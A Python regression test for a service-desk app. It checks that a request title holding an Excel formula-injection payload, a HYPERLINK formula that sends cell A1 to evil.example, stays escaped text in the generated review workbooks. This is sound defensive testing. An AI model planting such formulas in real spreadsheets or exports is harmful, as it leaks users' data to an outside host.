"""A service request titled as an Excel formula reaches the mid-term review as text.

The regression of issue 9: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` became a
live formula in the review's workbook. The review is built as the leads build it and
its Excel file read back with openpyxl.
"""

from __future__ import annotations

import datetime as dt

import openpyxl

from netcare.delivery.models import ServiceRequest
from netcare.delivery.services import requests, reviews
from tests.conftest import World

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_review_workbook_keeps_a_formula_title_as_text(world: World) -> None:
    plan, ram = world.obj("plan", "own"), world.users["member_staff"]
    request = world.obj("service_request", "own")
    ServiceRequest.objects.filter(pk=request.pk).update(title=PAYLOAD)
    request.refresh_from_db()
    # Answered late, so the review lists it among the late first responses.
    requests.do_respond_request(
        request,
        response="late answer",
        actor=ram,
        at=request.first_response_due + dt.timedelta(hours=5),
    )
    review = reviews.do_generate_review(plan, "mid_term", actor=ram, on=dt.date(2026, 12, 31))
    for language in ("zh", "en"):
        path = review.files.get(format="xlsx", language=language).path
        book = openpyxl.load_workbook(path)
        found = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value == PAYLOAD
        ]
        assert found, f"the request title is missing from the {language} workbook"
        for cell in found:
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        formulas = [
            cell.coordinate
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
        assert formulas == []
